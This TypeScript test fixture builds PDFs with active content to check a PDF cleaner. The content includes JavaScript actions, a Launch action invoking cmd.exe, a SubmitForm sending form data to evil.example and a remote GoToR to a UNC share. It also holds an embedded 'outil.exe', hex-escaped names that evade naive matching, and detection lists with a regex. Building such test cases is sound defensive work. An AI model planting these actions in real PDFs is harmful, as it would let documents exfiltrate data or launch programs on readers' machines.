// PDFs carrying active content, each the way a real file would: JavaScript on opening, on pages,
// links, outline entries and form fields, actions that launch, submit, import or open other files,
// XFA, embedded files. Each also holds what must survive cleaning: text, an ordinary web link, a
// form field, an outline entry. Then the checks that find active content in a PDF's objects and bytes.
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFStream, PDFString, type PDFContext, type PDFObject, type PDFPage, type PDFRef } from "pdf-lib";

/** Text a script or an embedded file holds: found in the original's bytes, never in the cleaned copy's. */
export const SCRIPT_TEXT = "app.alert('kits-hostile')";
export const EMBEDDED_TEXT = "KITS-EMBEDDED-PAYLOAD";
export const SAFE_LINK = "https://www.example.gouv.fr/kit";

type Build = (doc: PDFDocument, pages: PDFPage[]) => void;

async function hostilePdf(build: Build, options: { objectStreams?: boolean } = {}) {
  const doc = await PDFDocument.create();
  const pages = [doc.addPage([300, 400]), doc.addPage([300, 400])];
  pages[0].drawText("Plans du kit", { x: 40, y: 300 });
  addAnnot(
    pages[0],
    doc.context.obj({
      Type: "Annot",
      Subtype: "Link",
      Rect: [10, 10, 100, 30],
      A: { S: "URI", URI: PDFString.of(SAFE_LINK) },
    }),
  );
  build(doc, pages);
  return Buffer.from(await doc.save({ useObjectStreams: options.objectStreams ?? true }));
}

function script(context: PDFContext) {
  return context.obj({ S: "JavaScript", JS: PDFString.of(SCRIPT_TEXT) });
}

function addAnnot(page: PDFPage, annot: PDFDict): PDFRef {
  const ref = page.doc.context.register(annot);
  page.node.addAnnot(ref);
  return ref;
}

function link(page: PDFPage, action: PDFDict) {
  addAnnot(
    page,
    page.doc.context.obj({
      Type: "Annot",
      Subtype: "Link",
      Rect: [10, 50, 100, 70],
      A: action,
    }),
  );
}

function embeddedFileSpec(context: PDFContext) {
  const file = context.register(
    context.stream(EMBEDDED_TEXT, {
      Type: "EmbeddedFile",
      Subtype: "application#2Foctet-stream",
    }),
  );
  return context.register(
    context.obj({
      Type: "Filespec",
      F: PDFString.of("outil.exe"),
      UF: PDFString.of("outil.exe"),
      EF: { F: file },
    }),
  );
}

export const hostilePdfs: {
  label: string;
  make: () => Promise<Buffer>;
  found: string[];
}[] = [
  {
    label: "an open action and document additional actions running JavaScript",
    make: () =>
      hostilePdf((doc) => {
        doc.catalog.set(PDFName.of("OpenAction"), doc.context.register(script(doc.context)));
        doc.catalog.set(
          PDFName.of("AA"),
          doc.context.obj({
            WC: script(doc.context),
            WS: script(doc.context),
            DP: script(doc.context),
          }),
        );
      }),
    found: ["/OpenAction", "/AA", "/S /JavaScript", "/JS"],
  },
  {
    label: "a JavaScript name tree",
    make: () =>
      hostilePdf((doc) => {
        const tree = doc.context.obj({
          Names: [PDFString.of("init"), doc.context.register(script(doc.context))],
        });
        doc.catalog.set(PDFName.of("Names"), doc.context.obj({ JavaScript: doc.context.register(tree) }));
      }),
    found: ["/JavaScript", "/S /JavaScript", "/JS"],
  },
  {
    label: "pages that run JavaScript when opened and closed",
    make: () =>
      hostilePdf((doc, pages) => {
        for (const page of pages) page.node.set(PDFName.of("AA"), doc.context.obj({ O: script(doc.context), C: script(doc.context) }));
      }),
    found: ["/AA", "/S /JavaScript"],
  },
  {
    label: "links that run JavaScript, launch a program, submit or import data, open other files or play media",
    make: () =>
      hostilePdf((doc, [page]) => {
        const { context } = doc;
        link(page, script(context));
        link(
          page,
          context.obj({
            S: "Launch",
            F: PDFString.of("calc.exe"),
            Win: { F: PDFString.of("cmd.exe"), P: PDFString.of("/c calc") },
          }),
        );
        link(
          page,
          context.obj({
            S: "SubmitForm",
            F: { FS: "URL", F: PDFString.of("https://evil.example/collect") },
            Flags: 4,
          }),
        );
        link(page, context.obj({ S: "ImportData", F: PDFString.of("donnees.fdf") }));
        link(
          page,
          context.obj({
            S: "GoToR",
            F: PDFString.of("\\\\evil.example\\partage\\autre.pdf"),
            D: [0, "Fit"],
          }),
        );
        link(
          page,
          context.obj({
            S: "GoToE",
            T: { R: "C", N: PDFString.of("outil.pdf") },
            D: [0, "Fit"],
          }),
        );
        link(
          page,
          context.obj({
            S: "RichMediaExecute",
            TA: context.obj({}),
            TI: context.obj({}),
            CMD: { C: PDFString.of("run") },
          }),
        );
        link(page, context.obj({ S: "Rendition", OP: 0, JS: PDFString.of(SCRIPT_TEXT) }));
        link(
          page,
          context.obj({
            S: "Sound",
            Sound: context.register(context.stream("son", { Type: "Sound", R: 8000 })),
          }),
        );
        link(page, context.obj({ S: "Movie", T: PDFString.of("film") }));
        // An ordinary action that chains to a script, directly and within an array.
        link(
          page,
          context.obj({
            S: "URI",
            URI: PDFString.of("https://example.org/"),
            Next: script(context),
          }),
        );
        link(
          page,
          context.obj({
            S: "GoTo",
            D: [page.ref, "Fit"],
            Next: [context.obj({ S: "Named", N: "NextPage" }), script(context)],
          }),
        );
      }),
    found: [
      "/S /JavaScript",
      "/S /Launch",
      "/S /SubmitForm",
      "/S /ImportData",
      "/S /GoToR",
      "/S /GoToE",
      "/S /RichMediaExecute",
      "/S /Rendition",
      "/S /Sound",
      "/S /Movie",
      "/JS",
    ],
  },
  {
    label: "a form whose field runs JavaScript, with an XFA form",
    make: () =>
      hostilePdf((doc, [page]) => {
        const { context } = doc;
        const field = addAnnot(
          page,
          context.obj({
            Type: "Annot",
            Subtype: "Widget",
            FT: "Tx",
            T: PDFString.of("nom"),
            Rect: [40, 200, 200, 220],
            P: page.ref,
            A: script(context),
            AA: {
              K: script(context),
              F: script(context),
              V: script(context),
              C: script(context),
              Fo: script(context),
            },
          }),
        );
        const xfa = context.register(context.stream(`<xdp:xdp><template><script>${SCRIPT_TEXT}</script></template></xdp:xdp>`));
        doc.catalog.set(PDFName.of("AcroForm"), context.obj({ Fields: [field], XFA: xfa, NeedsRendering: true }));
      }),
    found: ["/AA", "/S /JavaScript", "/XFA", "/NeedsRendering"],
  },
  {
    label: "embedded files, in the name tree, as a file attachment annotation and as associated files",
    make: () =>
      hostilePdf((doc, [page]) => {
        const { context } = doc;
        const spec = embeddedFileSpec(context);
        doc.catalog.set(
          PDFName.of("Names"),
          context.obj({
            EmbeddedFiles: { Names: [PDFString.of("outil.exe"), spec] },
          }),
        );
        doc.catalog.set(PDFName.of("AF"), context.obj([spec]));
        doc.catalog.set(PDFName.of("Collection"), context.obj({ View: "T" }));
        addAnnot(
          page,
          context.obj({
            Type: "Annot",
            Subtype: "FileAttachment",
            Rect: [200, 200, 220, 220],
            FS: embeddedFileSpec(context),
            Name: "PushPin",
          }),
        );
      }),
    found: ["/EmbeddedFiles", "/EF", "/AF", "/Collection", "/Type /EmbeddedFile", "/Subtype /FileAttachment"],
  },
  {
    label: "media and 3D annotations",
    make: () =>
      hostilePdf((doc, [page]) => {
        for (const subtype of ["Screen", "RichMedia", "Sound", "Movie", "3D"]) {
          addAnnot(
            page,
            doc.context.obj({
              Type: "Annot",
              Subtype: subtype,
              Rect: [0, 0, 50, 50],
            }),
          );
        }
      }),
    found: ["/Subtype /Screen", "/Subtype /RichMedia", "/Subtype /Sound", "/Subtype /Movie", "/Subtype /3D"],
  },
  {
    label: "an outline entry running JavaScript, with names written in hex escapes, without object streams",
    make: async () => {
      const bytes = await hostilePdf(
        (doc) => {
          const { context } = doc;
          const outlines = context.nextRef();
          const entry = context.register(
            context.obj({
              Title: PDFString.of("Sommaire"),
              Parent: outlines,
              A: script(context),
            }),
          );
          context.assign(
            outlines,
            context.obj({
              Type: "Outlines",
              First: entry,
              Last: entry,
              Count: 1,
            }),
          );
          doc.catalog.set(PDFName.of("Outlines"), outlines);
        },
        { objectStreams: false },
      );
      // The same names, spelt as a hostile writer may (pdf-lib only reads the offsets it needs).
      return Buffer.from(bytes.toString("latin1").replaceAll("/S /JavaScript", "/S /J#61vaScript").replaceAll("/JS ", "/#4AS "), "latin1");
    },
    found: ["/S /JavaScript", "/JS"],
  },
];

// The oracle, written from the PDF specification rather than from the cleaner's own lists.
const activeKeys = ["OpenAction", "AA", "JavaScript", "JS", "EmbeddedFiles", "EF", "RF", "AF", "Collection", "XFA", "NeedsRendering"];
const activeActions = ["JavaScript", "Launch", "SubmitForm", "ImportData", "GoToR", "GoToE", "RichMediaExecute", "Rendition", "Sound", "Movie"];
const activeAnnotations = ["FileAttachment", "Sound", "Movie", "Screen", "RichMedia", "3D"];

/** Every active feature found by parsing the PDF and walking all its objects, direct ones included. */
export async function activeContent(bytes: Uint8Array): Promise<string[]> {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  const found = new Set<string>();
  const nameOf = (object: PDFObject | undefined) => (object instanceof PDFName ? object.decodeText() : undefined);
  const pending: PDFObject[] = doc.context.enumerateIndirectObjects().map(([, object]) => object);
  while (pending.length) {
    const object = pending.pop()!;
    if (object instanceof PDFStream) pending.push(object.dict);
    else if (object instanceof PDFArray) pending.push(...object.asArray());
    else if (object instanceof PDFDict) {
      for (const [key, value] of object.entries()) {
        const name = key.decodeText();
        if (activeKeys.includes(name)) found.add(`/${name}`);
        if (name === "S" && activeActions.includes(nameOf(value)!)) found.add(`/S /${nameOf(value)}`);
        if (name === "Subtype" && activeAnnotations.includes(nameOf(value)!)) found.add(`/Subtype /${nameOf(value)}`);
        if (name === "Type" && nameOf(value) === "EmbeddedFile") found.add("/Type /EmbeddedFile");
        pending.push(value);
      }
    }
  }
  return [...found].sort();
}

// In the cleaned copy, written without object streams, every dictionary is readable as text.
export const activeNameInBytes = new RegExp(
  `/(${[...activeKeys, ...activeActions, ...activeAnnotations, "EmbeddedFile"].join("|")})(?=[\\s/<>\\[\\]()])`,
);
